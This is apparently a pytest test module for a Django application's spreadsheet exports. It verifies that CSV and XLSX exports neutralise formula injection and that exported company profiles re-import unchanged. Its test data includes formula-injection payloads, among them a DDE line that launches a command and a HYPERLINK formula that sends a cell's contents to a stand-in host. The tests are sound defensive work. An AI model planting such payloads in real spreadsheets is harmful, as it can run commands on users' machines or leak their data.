"""No exported cell can run as a formula, on any export path, and an unedited export of
company profiles imports again as unchanged.

XLSX: every text is a string cell (Excel and LibreOffice never evaluate one), written as it
is. CSV: a text that would run gets a leading apostrophe, which the import drops again; a
phone number ("+49 341 …") only looks like a formula and is written as it is.
"""

import csv
import datetime
import io

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.core.management import call_command
from django.utils import translation

from partners import models as m
from partners.imports import import_profiles
from partners.imports.reader import open_sheet
from partners.spreadsheets import neutralise, runs_as_formula, unescape

from . import factories as f
from .test_admin_export import export_permission

pytestmark = pytest.mark.django_db
RUNS = [
    "=1+1",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
    "+cmd|' /C calc'!A0",
    "-x",
    '=HYPERLINK("http://example.org?"&A1)',
]
LOOKS_LIKE = ["+49 341 123", "+49 (0)341 97-0", "-5", "-", "(0341) 123/45.6"]
DANGEROUS = RUNS + LOOKS_LIKE


@pytest.mark.parametrize("text", RUNS)
def test_csv_prefixes_text_that_would_run_with_an_apostrophe(text):
    assert runs_as_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value", [*LOOKS_LIKE, "Nanjing", "", "a=b", 42, -3, datetime.date(2019, 1, 1), None]
)
def test_csv_leaves_phone_numbers_harmless_text_numbers_and_dates_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize(
    "value", [*DANGEROUS, "'=x", "''=x", "'+49", "'", "''", "'abc", "Nanjing", "a'=b"]
)
def test_the_import_undoes_exactly_what_the_export_escaped(value):
    assert unescape(neutralise(value)) == value


def test_the_apostrophe_of_older_exports_is_dropped_on_import():
    assert unescape("'+49 341 123") == "+49 341 123"


@pytest.fixture
def dangerous_meetings():
    leipzig = f.HomeCityFactory()
    city = f.CityFactory(name="Nanjing")
    f.PartnershipFactory(home_city=leipzig, partner_city=city)
    for text in DANGEROUS:
        f.MeetingFactory(title=text, city=city, delegation=None, date=datetime.date(2019, 5, 5))


@pytest.fixture
def manager(client):
    user = f.UserFactory()
    user.user_permissions.add(Permission.objects.get(codename="view_reports"))
    user.user_permissions.add(Permission.objects.get(codename="view_meeting"))
    user.user_permissions.add(export_permission(m.Meeting))
    client.force_login(user)
    return client


def _titles_from_xlsx(content, sheet_name=None, column="Title"):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    sheet = workbook[sheet_name] if sheet_name else workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    index = rows[0].index(column)
    cells = [row[index] for row in sheet.iter_rows(min_row=2) if row[index].value]
    assert all(cell.data_type == "s" for cell in cells)  # string cells: never evaluated
    return sorted(cell.value for cell in cells)


def _from_xlsx(titles):
    # A carriage return at the start of a cell comes back as "_x000D_" or "\n" depending
    # on the writer; the others exactly as they were, without an apostrophe.
    return sorted(t.replace("_x000D_", "\r") for t in titles) == sorted(DANGEROUS)


def _all_neutralised(titles):
    """CSV: what would run has its apostrophe, what only looks like a formula has none."""
    return sorted(titles) == sorted(["'" + text for text in RUNS] + LOOKS_LIKE) and not any(
        runs_as_formula(title) for title in titles
    )


def test_the_report_workbook_neutralises_formulae(manager, dangerous_meetings):
    response = manager.get(
        "/reports/", {"year": 2019, "format": "xlsx"}, headers={"accept-language": "en"}
    )

    content = b"".join(response.streaming_content)
    assert _from_xlsx(_titles_from_xlsx(content, "Meetings"))


def test_the_report_csv_neutralises_formulae(manager, dangerous_meetings):
    response = manager.get(
        "/reports/",
        {"year": 2019, "format": "csv", "sheet": "meetings"},
        headers={"accept-language": "en"},
    )

    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert _all_neutralised([row["Title"] for row in rows])


def test_the_export_report_command_neutralises_formulae(dangerous_meetings, tmp_path, settings):
    settings.LANGUAGE_CODE = "en"
    target = tmp_path / "report.xlsx"

    call_command("export_report", str(target), "--year", "2019", stdout=io.StringIO())

    assert _from_xlsx(_titles_from_xlsx(target.read_bytes(), "Meetings"))


@pytest.mark.parametrize("file_format", ["0", "1"])
def test_the_admin_export_neutralises_formulae(manager, dangerous_meetings, file_format):
    response = manager.post("/admin/partners/meeting/export/", {"format": file_format})
    content = b"".join(response.streaming_content)

    if file_format == "0":
        assert _from_xlsx(_titles_from_xlsx(content, column="title"))
    else:
        text = content.decode("utf-8-sig")
        rows = csv.DictReader(io.StringIO(text, newline=""), delimiter=";")  # German
        titles = sorted(row["title"] for row in rows)
        assert _all_neutralised(titles)


# --- export and import agree -----------------------------------------------------------

PROFILE_HEADERS = [
    "Company", "Register number", "City", "Phone", "Address", "Products", "Contact",
    "Contact phone", "Summary", "Sector",
]  # fmt: skip


def _profile_rows(count):
    return [
        [
            f"Firma {n} GmbH", f"HRB {n}", "Leipzig", f"+49 341 {1000 + n}", "@Markt 1",
            '=HYPERLINK("http://example.org")', f"Person {n}", "+49 (0)341 97-0",
            "-2+3 Maschinen", "C",
        ]
        for n in range(count)
    ]  # fmt: skip


@pytest.fixture
def imported_profiles():
    f.HomeCityFactory(name="Leipzig")
    rows = _profile_rows(30)
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows([PROFILE_HEADERS, *rows])
    result = import_profiles(source=buffer.getvalue().encode(), filename="first.csv")
    assert (result.created, result.errors) == (30, [])
    return rows


@pytest.fixture
def profile_exporter(client):
    user = f.UserFactory()
    user.user_permissions.add(export_permission(m.CompanyProfile))
    user.user_permissions.add(Permission.objects.get(codename="view_companyprofile"))
    client.force_login(user)
    return client


@pytest.mark.parametrize(("file_format", "filename"), [("0", "export.xlsx"), ("1", "export.csv")])
def test_an_unedited_profile_export_imports_as_unchanged(
    profile_exporter, imported_profiles, file_format, filename
):
    response = profile_exporter.post(
        "/admin/partners/companyprofile/export/", {"format": file_format, "resource": "0"}
    )
    content = b"".join(response.streaming_content)

    with translation.override("en"):
        result = import_profiles(source=content, filename=filename, dry_run=True)

    assert (result.created, result.updated, result.errors) == (0, 0, [])
    assert result.unchanged == len(imported_profiles)
    organisation = m.Organisation.objects.get(register_number="HRB 0")
    assert organisation.phone == "+49 341 1000"
    assert organisation.address == "@Markt 1"


def test_the_profile_workbook_holds_the_values_as_string_cells(profile_exporter, imported_profiles):
    response = profile_exporter.post(
        "/admin/partners/companyprofile/export/", {"format": "0", "resource": "0"}
    )
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    first = dict(zip(header, sheet[2], strict=True))

    phone, products = first["Telefon"], first["Produkte"]
    assert (phone.value, phone.data_type) == ("+49 341 1000", "s")
    assert (products.value, products.data_type) == ('=HYPERLINK("http://example.org")', "s")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_profile_csv_escapes_only_what_would_run(profile_exporter, imported_profiles):
    response = profile_exporter.post(
        "/admin/partners/companyprofile/export/", {"format": "1", "resource": "0"}
    )
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    first = next(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))  # German

    assert first["Telefon"] == "+49 341 1000"
    assert first["Telefon Ansprechpartner"] == "+49 (0)341 97-0"
    assert first["Produkte"] == '\'=HYPERLINK("http://example.org")'
    assert first["Adresse"] == "'@Markt 1"
    assert first["Kurzprofil"] == "'-2+3 Maschinen"
    assert not any(runs_as_formula(value) for value in first.values())


def test_the_reader_drops_the_apostrophe_that_an_older_export_wrote():
    data = b"Firma,Ort,Telefon\nA GmbH,Leipzig,'+49 341 1000\n"

    rows = list(open_sheet(data, "old.csv").rows)

    assert rows[0][1][2] == "+49 341 1000"
